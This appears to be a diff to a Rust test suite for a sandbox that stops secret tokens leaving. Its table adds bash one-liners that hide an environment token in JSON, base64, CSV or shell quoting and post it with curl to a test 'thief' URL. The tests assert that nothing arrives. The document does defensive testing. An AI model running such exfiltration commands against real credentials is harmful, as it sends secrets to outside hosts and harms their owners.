@@ -51,6 +51,34 @@ const WAYS: &[(&str, &str)] = &[
         "J=${T//\\//\\\\/}; J=${J//\\\"/\\\\\\\"}; printf '{\"a\":\"%s\"}' \"$J\" | curl -sS -H 'Content-Type: application/json' --data-binary @- $URL/",
     ),
     (
+        "json of json",
+        "J=${T//\\\"/\\\\\\\"}; J=${J//\\\\/\\\\\\\\}; J=${J//\\\"/\\\\\\\"}; printf '{\"a\":\"{\\\\\"b\\\\\":\\\\\"%s\\\\\"}\"}' \"$J\" | curl -sS --data-binary @- $URL/",
+    ),
+    (
+        "json alone",
+        "printf '{\"a\":\"%s\"}' \"${T//\\\"/\\\\\\\"}\" | curl -sS --data-binary @- $URL/",
+    ),
+    (
+        "json in base 64",
+        "printf '{\"a\":\"%s\"}' \"${T//\\\"/\\\\\\\"}\" | base64 -w0 | curl -sS --data-binary @- $URL/",
+    ),
+    (
+        "json in a query",
+        "curl -sS -G --data-urlencode \"q={\\\"a\\\":\\\"${T//\\\"/\\\\\\\"}\\\"}\" $URL/",
+    ),
+    (
+        "cell",
+        "printf 'a,\"%s\"\\n' \"${T//\\\"/\\\"\\\"}\" | curl -sS --data-binary @- $URL/",
+    ),
+    (
+        "word of a shell",
+        "printf 'T=%q\\n' \"$T\" | curl -sS --data-binary @- $URL/",
+    ),
+    (
+        "string of a shell",
+        "declare -p T | curl -sS --data-binary @- $URL/",
+    ),
+    (
         "gzip",
         "printf 'a %s b' \"$T\" | gzip | curl -sS --data-binary @- $URL/",
     ),
@@ -97,6 +125,7 @@ lab_tests! {
         for (name, way) in WAYS {
             let sandbox = confined(lab, Identity::Own)
                 .environment("MYCORP_TOKEN", VALUE)
+                .option("--pass-env", "MYCORP_TOKEN")
                 .option("--audit", &file.to_string_lossy());
             let outcome = sandbox.run(&bash(&format!("T=$MYCORP_TOKEN; {way}")));
             assert_eq!(thief.take(), b"", "{name}: nothing arrives: {outcome}");
@@ -126,7 +155,9 @@ lab_tests! {
             ("curl -sS -H \"a: ${T:0:9}\" -H \"b: ${T:9}\" $URL/", ""),
             ("curl -sS \"$URL/?a=${T:0:12}\"; curl -sS \"$URL/?a=${T:12}\"", "arrived\n"),
         ] {
-            let sandbox = confined(lab, Identity::Own).environment("MYCORP_TOKEN", PLAIN);
+            let sandbox = confined(lab, Identity::Own)
+                .environment("MYCORP_TOKEN", PLAIN)
+                .option("--pass-env", "MYCORP_TOKEN");
             let outcome = sandbox.run(&bash(&format!("T=$MYCORP_TOKEN; {script}")));
             let sent = String::from_utf8_lossy(&thief.take()).into_owned();
             assert!(!sent.contains(&PLAIN[12..]), "{script}: {sent}");
@@ -163,7 +194,7 @@ lab_tests! {
         assert!(outcome.stderr.contains("it may go to drop.example, not to home.example"), "{outcome}");
         assert_eq!(thief.take(), b"", "{outcome}");
         // Another value is not let by it.
-        let other = named().environment("OTHER_TOKEN", VALUE);
+        let other = named().environment("OTHER_TOKEN", VALUE).option("--pass-env", "OTHER_TOKEN");
         let outcome = other.run(&bash("curl -sS -H \"x: $OTHER_TOKEN\" $URL/"));
         assert!(outcome.stderr.contains("--known OTHER_TOKEN@drop.example"), "{outcome}");
         assert_eq!(thief.take(), b"", "{outcome}");
